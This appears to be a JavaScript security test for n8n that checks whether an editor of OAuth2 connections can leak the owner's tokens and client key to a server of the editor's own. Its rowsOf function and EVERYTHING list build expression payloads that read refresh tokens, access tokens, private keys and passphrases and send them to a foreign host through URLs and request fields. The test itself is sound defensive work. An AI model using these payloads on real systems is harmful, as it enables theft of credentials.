import assert from 'node:assert/strict';

import { consentAddress } from '../../../e2e/support/oauth2/give-consent.mjs';
import {
	changeFields,
	consent,
	endingsOf,
	ownedConnection,
	serversThatGot,
} from '../oauth2/owned-connections.mjs';
import { startWatch } from '../watch/start-watch.mjs';
import { issueClientKey } from './client-keys.mjs';

/** @typedef {import('../scenario/start-leak-stage.mjs').LeakEnvironment} LeakEnvironment */
/** @typedef {import('../oauth2/owned-connections.mjs').Owned} Owned */
/** @typedef {Record<string, any>} Json */

/**
 * Has somebody who may edit OAuth2 connections connect them at a server of that person's own, with an expression over the
 * owner's tokens and client key in each field.
 * @param {LeakEnvironment} environment
 */
export async function consentWithExpressions(environment) {
	const { servers, n8n } = environment;
	const clientKey = await issueClientKey(environment);
	// n8n 1 does not support certificates, so such a connection could not be used there.
	const keyFields = environment.version === '2.41.1' ? clientKey.fields : {};
	const rows = rowsOf(servers.foreign.url);
	const owned = [];
	for (const _ of rows) owned.push(await ownedConnection(environment, keyFields));
	const watch = await startWatch(environment);
	const calls = [{ url: `${servers.allowed.url}/ok` }];
	const used = await endingsOf(environment, watch, owned, calls);
	assert.deepEqual(used, Array(rows.length).fill(['success']));

	for (const [index, row] of rows.entries()) {
		const one = /** @type {Owned} */ (owned[index]);
		await changeFields(environment, one, { ...keyFields, ...row });
		watch.show(`address ${index}`, await consentAddress(n8n, one.credential).catch(String));
		environment.forgetArrivals();
		watch.show(`page ${index}`, await consent(environment, one.credential));
		// A control: the server did receive what n8n sends it.
		const reached = environment.arrivals().map(({ server }) => server);
		assert.deepEqual(reached, ['foreign'], JSON.stringify(row));
		const theirs = [...one.accessTokens, ...one.refreshTokens, ...clientKey.secrets];
		assert.deepEqual(serversThatGot(environment, theirs), [], JSON.stringify(row));
	}
	const ends = await endingsOf(environment, watch, owned, calls);
	assert.deepEqual(ends, Array(rows.length).fill(['field_is_expression']));
	const tokens = owned.flatMap(({ accessTokens, refreshTokens }) => [
		...accessTokens,
		...refreshTokens,
	]);
	await watch.expectNoLeak([...tokens, ...clientKey.secrets], ['allowed', 'authorization']);
}

/**
 * Returns the changed fields of each connection.
 * @param {string} foreign
 * @returns {Json[]}
 */
function rowsOf(foreign) {
	const own = { authUrl: `${foreign}/authorize`, accessTokenUrl: `${foreign}/tokens/rotating` };
	const read = EVERYTHING.join(' + ');
	return [
		...TEXT_FIELDS.map((field) => ({ ...own, [field]: `={{ ${read} }}` })),
		{ ...own, authentication: 'body', clientSecret: `={{ ${read} }}` },
		{ ...own, clientSecret: `={{ "a".hash(${read}) }}` },
		{ ...own, authUrl: `=${foreign}/authorize?{{ encodeURIComponent(${read}) }}` },
		{ ...own, accessTokenUrl: `=${foreign}/token?{{ encodeURIComponent(${read}) }}` },
		{ ...own, authQueryParameters: `=a={{ encodeURIComponent(${read}) }}` },
		{
			...own,
			authentication: 'body',
			additionalBodyProperties: `={{ JSON.stringify({ a: ${read} }) }}`,
		},
	];
}

const EVERYTHING = [
	'$self.oauthTokenData.refresh_token',
	'$self.oauthTokenData.access_token',
	'$self.connectionPrivateKey',
	'$self.clientKeyPassphrase',
];
const TEXT_FIELDS = ['clientSecret', 'clientId', 'scopes', 'defaultScopes', 'allowedDomain'];
